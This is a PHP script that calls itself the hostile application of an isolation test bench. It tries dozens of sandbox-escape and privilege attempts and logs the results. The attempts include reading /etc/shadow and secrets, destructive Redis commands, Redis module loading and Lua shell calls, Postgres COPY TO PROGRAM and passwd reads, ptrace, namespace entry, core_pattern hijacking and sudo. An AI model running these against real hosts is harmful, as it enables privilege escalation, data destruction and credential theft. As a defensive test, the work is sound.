<?php
// The hostile application of `cargo xtask attack`: tries everything once, and writes down what it got. What it says is
// only half of it: the bench looks from outside whether anything came through.
$told = getenv('TOLD');
if (!@mkdir("$told/begun")) {
    http_response_code(200);
    exit('served');
}
$a = json_decode(file_get_contents(__DIR__ . '/attack.json'), true);
error_log("\x1b]0;attack-title\x07\x1b[2J attack-escape");

// What an attempt gives: a text is what it got, false that it got nothing.
function connect(string $to, string $id)
{
    $stream = @stream_socket_client($to, $code, $why, 2);
    if (!$stream) return false;
    fwrite($stream, "$id\n");
    return "connected to $to";
}
function write(string $path, string $id)
{
    return @file_put_contents($path, $id) === false ? false : "wrote $path";
}
function run(string $command)
{
    exec("$command 2>&1", $lines, $code);
    return $code === 0 ? trim(implode(' ', array_slice($lines, 0, 3))) ?: 'it went well' : false;
}
function perl(string $script)
{
    return run('perl -e ' . escapeshellarg($script));
}
function redis(string ...$words)
{
    $stream = @stream_socket_client('tcp://' . getenv('REDIS_HOST') . ':' . getenv('REDIS_PORT'), $code, $why, 2);
    if (!$stream) return "no connection to the lab's own Redis";
    stream_set_timeout($stream, 3);
    $text = '*' . count($words) . "\r\n";
    foreach ($words as $word) $text .= '$' . strlen($word) . "\r\n$word\r\n";
    fwrite($stream, $text);
    $answer = trim((string) fgets($stream));
    return str_starts_with($answer, '-') ? false : $answer;
}
function sql(string $query, ?string $user = null, ?string $host = null)
{
    $words = 'host=' . ($host ?? getenv('DB_HOST')) . ' port=' . getenv('DB_PORT') . ' dbname=' . getenv('DB_DATABASE')
        . ' user=' . ($user ?? getenv('DB_USERNAME')) . ' password=' . getenv('DB_PASSWORD') . ' connect_timeout=2';
    $link = @pg_connect($words);
    if (!$link) return false;
    $answer = @pg_query($link, $query);
    return $answer ? 'the query was carried out' : false;
}
// Processes whose name begins like this; what the machine shows.
function processes(string $name): array
{
    $found = [];
    foreach (glob('/proc/[0-9]*/comm') as $path) {
        if (str_starts_with((string) @file_get_contents($path), $name)) $found[] = (int) explode('/', $path)[2];
    }
    return $found;
}
function each_of(array $pids, callable $try)
{
    foreach ($pids as $pid) {
        $got = $try($pid);
        if ($got) return $got;
    }
    return false;
}
$seize = fn(int $pid) => perl("exit(syscall(101, 0x4206, $pid, 0, 0) == 0 ? 0 : 1)") ? "traces process $pid" : false;
$signal = fn(int $pid) => posix_kill($pid, 0) ? "may signal process $pid" : false;
$environ = fn(int $pid) => @file_get_contents("/proc/$pid/environ") ? "read the environment of process $pid" : false;
$lookin = fn(int $pid) => @scandir("/proc/$pid/root/") ? "listed the root directory of process $pid" : false;

$attempts = [
    'mail' => fn() => mail('someone@example.org', 'subject', 'mail') ? 'mail() says yes' : false,
    'tcp-loopback' => fn() => connect("tcp://127.0.0.1:{$a['tcp']}", 'tcp-loopback'),
    'tcp-loopback6' => fn() => connect("tcp://[::1]:{$a['tcp6']}", 'tcp-loopback6'),
    'tcp-machine' => fn() => each_of($a['addresses'], fn($to) => connect("tcp://$to:{$a['any']}", 'tcp-machine')),
    'tcp-peer' => fn() => connect("tcp://{$a['peer']}", 'tcp-peer'),
    'udp-machine' => fn() => each_of($a['addresses'], fn($to) => connect("udp://$to:{$a['udp']}", 'udp-machine')),
    'http-wrapper' => fn() => @file_get_contents("http://127.0.0.1:{$a['tcp']}/http-wrapper") ?: false,
    'abstract-socket' => fn() => perl("use Socket; socket(S, PF_UNIX, SOCK_STREAM, 0) and connect(S, pack('S a*', 1, \"\\0{$a['abstract']}\")) and syswrite(S, \"abstract-socket\\n\") or exit 1"),
    'write-opt' => fn() => write($a['outside'] . '/write-opt', 'write-opt'),
    'write-app' => fn() => write($a['site'] . '/write-app', 'write-app'),
    'write-link' => fn() => @symlink($a['outside'] . '/write-link', "$told/link") ? write("$told/link", 'write-link') : false,
    'write-hard-link' => fn() => @link($a['outside'] . '/victim', "$told/hard") ? write("$told/hard", 'write-hard-link') : false,
    'write-append' => fn() => @file_put_contents($a['outside'] . '/victim', 'write-append', FILE_APPEND) ? 'appended' : false,
    'write-rename' => fn() => @rename($a['outside'] . '/victim', $a['outside'] . '/write-rename') ? 'renamed' : false,
    'write-mode' => fn() => @chmod($a['outside'] . '/victim', 04777) ? 'changed the mode' : false,
    'write-run' => fn() => run("rm -rf {$a['run']} ; echo write-run > {$a['run']}/write-run"),
    'write-shm' => fn() => write('/dev/shm/attack-' . $a['nonce'], 'write-shm'),
    'write-tmp' => fn() => write('/tmp/attack-' . $a['nonce'] . '-file', 'write-tmp'),
    'semaphore' => fn() => ($id = @sem_get($a['key'])) && @sem_acquire($id) ? 'made a semaphore' : false,
    'shared-memory' => fn() => @shmop_open($a['key'] + 1, 'c', 0644, 100) ? 'made shared memory' : false,
    'read-secret' => fn() => @file_get_contents($a['secret']) ?: false,
    'read-shadow' => fn() => @file_get_contents('/etc/shadow') ?: false,
    'read-world' => fn() => @file_get_contents($a['outside'] . '/victim') ? 'read a file that anybody may read' : false,
    'read-tmp' => fn() => @file_get_contents($a['tmp'] . '/victim') ?: false,
    'redis-flush' => fn() => redis('FLUSHALL'),
    'redis-dir' => fn() => redis('CONFIG', 'SET', 'dir', $a['outside']),
    'redis-save' => fn() => redis('SAVE'),
    'redis-replica' => fn() => redis('REPLICAOF', '127.0.0.1', (string) $a['tcp']),
    'redis-module' => fn() => redis('MODULE', 'LOAD', __DIR__ . '/index.php'),
    'redis-lua' => fn() => redis('EVAL', "return io.popen('id')", '0'),
    'pg-program' => fn() => sql("copy (select 1) to program 'touch {$a['outside']}/pg-program'"),
    'pg-file' => fn() => sql("copy (select 1) to '{$a['outside']}/pg-file'"),
    'pg-read' => fn() => sql("create table stolen(t text); copy stolen from '/etc/passwd'"),
    'pg-superuser' => fn() => sql('select 1', 'postgres') ?: sql('select 1', 'kneepoint'),
    'pg-local' => fn() => each_of(glob(dirname($told, 3) . '/*/*/.s.PGSQL.*') ?: [], fn($at) => sql('select 1', 'postgres', dirname($at))),
    'pg-link' => fn() => sql("create extension dblink; select dblink_connect('host=127.0.0.1 port={$a['tcp']}')"),
    'pg-system' => fn() => sql("alter system set archive_command = 'touch {$a['outside']}/pg-system'"),
    'root-of-tier' => fn() => each_of([...processes('redis'), ...processes('postgres')], $lookin),
    'trace-tier' => fn() => each_of([...processes('redis'), ...processes('postgres')], $seize),
    'kill-tier' => fn() => each_of([...processes('redis'), ...processes('postgres')], $signal),
    'environ-tier' => fn() => each_of([...processes('redis'), ...processes('postgres')], $environ),
    'kill-keeper' => fn() => each_of(processes('kneepoint'), $signal),
    'trace-keeper' => fn() => each_of(processes('kneepoint'), $seize),
    'environ-keeper' => fn() => each_of(processes('kneepoint'), $environ),
    'root-of-machine' => fn() => $lookin(1),
    'kill-root' => fn() => $signal($a['roots']),
    'kill-own-user' => fn() => $signal($a['own']),
    'trace-own-user' => fn() => $seize($a['own']),
    'root-of-own-user' => fn() => $lookin($a['own']),
    'write-own-user' => fn() => write("/proc/{$a['own']}/root{$a['outside']}/write-own-user", 'write-own-user'),
    'socket-own-user' => fn() => connect("unix:///proc/{$a['own']}/root{$a['run']}/server.sock", 'socket-own-user'),
    'kill-sibling' => fn() => each_of(array_diff(processes('php-fpm'), [getmypid()]), fn($pid) => @fileowner("/proc/$pid") === posix_geteuid() ? $signal($pid) : false),
    'user-namespace' => fn() => run("unshare -Urm sh -c 'mount -o remount,bind,rw / ; mount -o remount,rw / ; echo x > {$a['outside']}/user-namespace'"),
    'net-namespace' => fn() => run('nsenter -t 1 -n true'),
    'mount-namespace' => fn() => run('nsenter -t 1 -m true'),
    'unmount' => fn() => run("umount /run && ls {$a['run']}/server.sock"),
    'cgroup' => fn() => each_of(glob('/sys/fs/cgroup{,/*}/cgroup.procs', GLOB_BRACE) ?: [], fn($at) => write($at, (string) getmypid())),
    'sysctl' => fn() => write('/proc/sys/kernel/core_pattern', '|/bin/sh'),
    'device' => fn() => each_of(['/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda'], fn($at) => @fopen($at, 'r+') ? "opened $at" : false),
    'sudo' => fn() => run('sudo -n id') ?: run('su -c id root < /dev/null'),
    'daemon' => fn() => run('setsid perl -e ' . escapeshellarg("\$0 = '{$a['daemon']}'; sleep 3600") . ' > /dev/null 2> /dev/null < /dev/null & true'),
    'log-link' => fn() => each_of([ini_get('error_log')], fn($at) => @unlink($at) && @symlink($a['secret'], $at) ? "made $at a link" : false),
    'ptrace-master' => fn() => $seize(posix_getppid()),
];
foreach ($a['sockets'] as $id => $path) {
    $attempts[$id] = fn() => connect("unix://$path", $id);
}
$results = [];
foreach ($attempts as $id => $try) {
    try {
        $got = $try();
    } catch (Throwable $why) {
        $got = false;
    }
    $results[$id] = $got === false ? null : substr((string) $got, 0, 120);
}
file_put_contents("$told/results.part", json_encode($results, JSON_INVALID_UTF8_SUBSTITUTE));
rename("$told/results.part", "$told/results.json");
echo 'served';
